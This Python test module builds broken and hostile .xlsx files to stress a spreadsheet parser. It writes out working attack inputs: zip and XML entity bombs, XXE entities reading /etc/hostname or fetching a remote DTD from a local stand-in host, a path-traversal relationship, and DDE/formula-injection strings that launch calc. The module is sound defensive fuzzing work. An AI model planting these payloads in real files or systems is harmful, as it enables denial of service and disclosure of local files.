"""Files that came broken or with bad intent, made from a sound workbook: what ``make torture`` and the tests feed the tool."""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path

Parts = dict[str, bytes]
#: A file's name, and what makes its content: some take seconds to make, so only those that are wanted are.
Recipe = tuple[str, Callable[[], bytes]]
SHEET = "xl/worksheets/sheet1.xml"
BOOK = "xl/workbook.xml"
LAST_ROW = 1_048_576

ENTITY_BOMB = (
    b'<!DOCTYPE lolz [<!ENTITY a "lollollollollollollollollollol">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>"
)
EXTERNAL_ENTITY = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
NETWORK_ENTITY = b'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://127.0.0.1:9/evil.dtd"> %e;]>'
RUNNING_FORMULAS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("file:///C:/Windows/System32/calc.exe","点我")',
    '=DDE("cmd","/C calc","x")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=WEBSERVICE("http://127.0.0.1:9/x")',
    "=[1]外部!A1",
)


def parts_of(content: bytes) -> Parts:
    """Return the parts of a package by name, in order."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def package_of(parts: Parts) -> bytes:
    """Return a package of ``parts``."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def _changed(content: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    parts = parts_of(content)
    parts[part] = change(parts[part])
    return package_of(parts)


def _with_doctype(xml: bytes, doctype: bytes, entity: bytes) -> bytes:
    head = re.match(rb"<\?xml[^>]*\?>\s*", xml)
    at = head.end() if head else 0
    body = re.sub(
        rb"(<sheetData[^>]*>)",
        rb'\1<row r="900"><c r="A900" t="inlineStr"><is><t>' + entity + rb"</t></is></c></row>",
        xml[at:],
        count=1,
    )
    return xml[:at] + doctype + body


def _with_rows(xml: bytes, rows: bytes) -> bytes:
    return re.sub(
        rb"</sheetData>|<sheetData\s*/>",
        lambda found: (b"<sheetData>" if b"/>" in found[0] else b"") + rows + b"</sheetData>",
        xml,
        count=1,
    )


def _text_cell(address: str, text: str) -> bytes:
    from xml.sax.saxutils import escape

    row = re.sub(r"\D", "", address)
    return f'<row r="{row}"><c r="{address}" t="inlineStr"><is><t>{escape(text)}</t></is></c></row>'.encode()


def _bomb(size: int) -> bytes:
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(SHEET, "w", force_zip64=True) as part,
    ):
        for _ in range(size >> 20):
            part.write(b" " * (1 << 20))
    return stream.getvalue()


def anything(name: str) -> bool:
    """Want every file."""
    return True


def made(recipes: Iterable[Recipe], wanted: Callable[[str], bool]) -> Iterator[tuple[str, bytes]]:
    """Yield (file name, content) of each file whose name is ``wanted``."""
    return ((name, make()) for name, make in recipes if wanted(name))


def hostile_files(sound: bytes, wanted: Callable[[str], bool] = anything) -> Iterator[tuple[str, bytes]]:
    """Yield (file name, content) of every ``wanted`` hostile or mistaken file, made from the workbook ``sound``."""
    return made(_hostile(sound), wanted)


def _hostile(sound: bytes) -> Iterator[Recipe]:
    sheet = lambda change: _changed(sound, SHEET, change)  # noqa: E731
    yield "压缩炸弹.xlsx", lambda: _bomb(2 << 30)
    parts = parts_of(sound)
    yield "压缩炸弹-在工作簿里.xlsx", lambda: package_of({**parts, SHEET: _with_rows(parts[SHEET], b" " * (300 << 20))})
    yield "很多部分.xlsx", lambda: package_of({**parts, **{f"xl/media/{n}.bin": b"" for n in range(21_000)}})
    yield "谎报大小.xlsx", lambda: _lying_size(sound)
    for name, doctype, entity in (
        ("实体炸弹.xlsx", ENTITY_BOMB, b"&j;"),
        ("外部实体.xlsx", EXTERNAL_ENTITY, b"&e;"),
        ("联网实体.xlsx", NETWORK_ENTITY, b"x"),
    ):
        yield name, lambda d=doctype, e=entity: sheet(lambda xml: _with_doctype(xml, d, e))  # type: ignore[misc]
        yield f"工作簿-{name}", lambda d=doctype: _changed(sound, BOOK, lambda xml: _with_doctype(xml, d, b""))  # type: ignore[misc]
    yield (
        "远处的实体炸弹.xlsx",
        lambda: sheet(lambda xml: _with_doctype(xml, b"<!--" + b"x" * 10_000 + b"-->" + ENTITY_BOMB, b"&j;")),
    )
    yield "会运行的公式.xlsx", lambda: sheet(lambda xml: _with_rows(xml, _formula_rows()))
    yield "外部链接.xlsx", lambda: _with_external_link(parts)
    yield "带宏.xlsm", lambda: _with_macro(parts)
    yield "带宏改了扩展名.xlsx", lambda: _with_macro(parts)
    yield "很长的格子.xlsx", lambda: sheet(lambda xml: _with_rows(xml, _text_cell("A2000", "长" * 40_000)))
    yield "特别长的格子.xlsx", lambda: sheet(lambda xml: _with_rows(xml, _text_cell("A2000", "=" * 20_000_000)))
    yield (
        "控制字符.xlsx",
        lambda: sheet(lambda xml: _with_rows(xml, _text_cell("A2000", "甲_x0000_乙_x0001_丙_x001F_丁_xFFFF_"))),
    )
    yield (
        "裸控制字符.xlsx",
        lambda: sheet(
            lambda xml: _with_rows(xml, b'<row r="2000"><c r="A2000" t="inlineStr"><is><t>\x01\x02</t></is></c></row>')
        ),
    )
    yield "一百万空行.xlsx", lambda: sheet(lambda xml: _with_rows(xml, _every_row(b'<row r="%d"/>')))
    yield (
        "一百万空格子.xlsx",
        lambda: sheet(lambda xml: _with_rows(xml, _every_row(b'<row r="%d"><c r="A%d" s="0"/></row>'))),
    )
    yield (
        "一百万行有数.xlsx",
        lambda: sheet(lambda xml: _with_rows(xml, _every_row(b'<row r="%d"><c r="A%d"><v>1</v></c></row>'))),
    )
    yield "一万六千列.xlsx", lambda: sheet(lambda xml: _with_rows(xml, _every_column()))
    yield (
        "最后一格.xlsx",
        lambda: sheet(lambda xml: _with_rows(xml, b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    )
    yield "整张合并.xlsx", lambda: sheet(lambda xml: _merged(xml, b'<mergeCell ref="A1:XFD1048576"/>'))
    yield (
        "很多合并.xlsx",
        lambda: sheet(
            lambda xml: _merged(xml, b"".join(b'<mergeCell ref="A%d:XFD%d"/>' % (n, n) for n in range(2000, 4000)))
        ),
    )
    yield (
        "谎报共享字符串.xlsx",
        lambda: (
            _changed(
                sound,
                "xl/sharedStrings.xml",
                lambda xml: re.sub(rb'(uniqueCount|count)="\d+"', rb'\1="4000000000"', xml),
            )
            if "xl/sharedStrings.xml" in parts
            else sound
        ),
    )
    yield "嵌套很深.xlsx", lambda: sheet(lambda xml: _with_rows(xml, b"<a>" * 200_000 + b"</a>" * 200_000))
    yield (
        "工作表自指.xlsx",
        lambda: _changed(
            sound,
            "xl/_rels/workbook.xml.rels",
            lambda xml: re.sub(rb'Target="[^"]*sheet1.xml"', b'Target="../../../../etc/hostname"', xml),
        ),
    )
    yield (
        "加了密码.xlsx",
        lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 4000,
    )
    yield (
        "旧格式.xlsx",
        lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 500 + "Workbook".encode("utf-16-le") + b"\0" * 4000,
    )
    yield "坏的旧格式.xls", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + random.Random(5).randbytes(20_000)
    yield "网页.xlsx", lambda: "<html><table><tr><td>项目名称</td></tr></table></html>".encode()
    yield "网页.xls", lambda: "<html><table><tr><td>项目名称</td></tr></table></html>".encode()
    yield "文本.xlsx", lambda: "项目名称,指标\n甲,乙\n".encode("gbk")
    yield "文件.xlsx", lambda: b"%PDF-1.7\n%\xe2\xe3\n"
    yield "压缩包.xlsx", lambda: package_of({"说明.txt": b"x"})
    yield (
        "文档.xlsx",
        lambda: package_of(
            {
                "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
                "word/document.xml": b"<d/>",
            }
        ),
    )
    yield "空的.xlsx", lambda: b""
    yield "随机.xlsx", lambda: random.Random(7).randbytes(30_000)


def truncated_files(sound: bytes, step: int = 1024) -> Iterator[tuple[str, bytes]]:
    """Yield the workbook cut off after every ``step`` bytes."""
    for size in range(step, len(sound), step):
        yield f"截断到{size}.xlsx", sound[:size]


def flipped_files(sound: bytes, count: int, seed: int = 20260101) -> Iterator[tuple[str, bytes]]:
    """Yield the workbook with one to eight bits turned over, ``count`` times."""
    chance = random.Random(seed)
    for number in range(count):
        damaged = bytearray(sound)
        for _ in range(chance.choice((1, 1, 2, 8))):
            damaged[chance.randrange(len(damaged))] ^= 1 << chance.randrange(8)
        yield f"翻位{number:03d}.xlsx", bytes(damaged)


def damaged_parts(sound: bytes, count: int, seed: int = 20260102) -> Iterator[tuple[str, bytes]]:
    """Yield the workbook with the inside of one part damaged and the zip made whole again: the checksums hold."""
    chance = random.Random(seed)
    parts = parts_of(sound)
    names = [name for name in parts if name.endswith((".xml", ".rels"))]
    for number in range(count):
        name = chance.choice(names)
        content = bytearray(parts[name])
        at, length = chance.randrange(len(content)), chance.randrange(1, 40)
        way = chance.randrange(3)
        if way == 0:
            del content[at : at + length]
        elif way == 1:
            content[at:at] = content[max(0, at - length) : at]
        else:
            content[at : at + length] = chance.randbytes(length)
        yield f"坏部分{number:03d}.xlsx", package_of({**parts, name: bytes(content)})


def _every_row(row: bytes) -> bytes:
    """Return ``row`` with its number put in, for each row from 2000 to the last that a sheet has."""
    times = row.count(b"%d")
    return b"".join(row % ((number,) * times) for number in range(2000, LAST_ROW + 1))


def _every_column() -> bytes:
    cells = b"".join(f'<c r="{_letters(number)}2000"><v>1</v></c>'.encode() for number in range(1, 16_385))
    return b'<row r="2000">' + cells + b"</row>"


def _letters(number: int) -> str:
    text = ""
    while number:
        number, rest = divmod(number - 1, 26)
        text = chr(65 + rest) + text
    return text


def _formula_rows() -> bytes:
    from xml.sax.saxutils import escape

    rows = []
    for number, formula in enumerate(RUNNING_FORMULAS, 2000):
        written = f"<f>{escape(formula[1:])}</f><v>0</v>" if formula.startswith("=") else ""
        kind = "" if written else ' t="inlineStr"'
        rows.append(
            f'<row r="{number}"><c r="A{number}"{kind}>{written or f"<is><t>{escape(formula)}</t></is>"}</c></row>'
        )
    return "".join(rows).encode()


def _merged(xml: bytes, merges: bytes) -> bytes:
    xml = re.sub(rb"<mergeCells.*?</mergeCells>", b"", xml, flags=re.DOTALL)
    return re.sub(rb"(</sheetData>|<sheetData\s*/>)", rb"\1<mergeCells>" + merges + rb"</mergeCells>", xml, count=1)


def _lying_size(sound: bytes) -> bytes:
    """Return the workbook with every declared unpacked size in the zip directory set to 10 bytes."""
    content = bytearray(sound)
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 24 : at + 28] = (10).to_bytes(4, "little")
        at = content.find(b"PK\x01\x02", at + 46)
    return bytes(content)


def _with_external_link(parts: Parts) -> bytes:
    office = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX" Type="'
        + office
        + b'/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
    )
    types = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument'
        b'.spreadsheetml.externalLink+xml"/></Types>',
    )
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="'
        + office
        + b'" r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>'
    )
    link_rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
        + office
        + b'/externalLinkPath" Target="http://127.0.0.1:9/evil.xlsx" TargetMode="External"/></Relationships>'
    )
    added = {
        "xl/_rels/workbook.xml.rels": rels,
        "[Content_Types].xml": types,
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels,
    }
    return package_of({**parts, **added})


def _with_macro(parts: Parts) -> bytes:
    types = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return package_of({**parts, "[Content_Types].xml": types, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 2000})


def write_files(folder: Path, files: Iterator[tuple[str, bytes]]) -> Iterator[Path]:
    """Write each file into ``folder``, yield its path, and remove it again."""
    for name, content in files:
        path = folder / name
        path.write_bytes(content)
        yield path
        path.unlink()
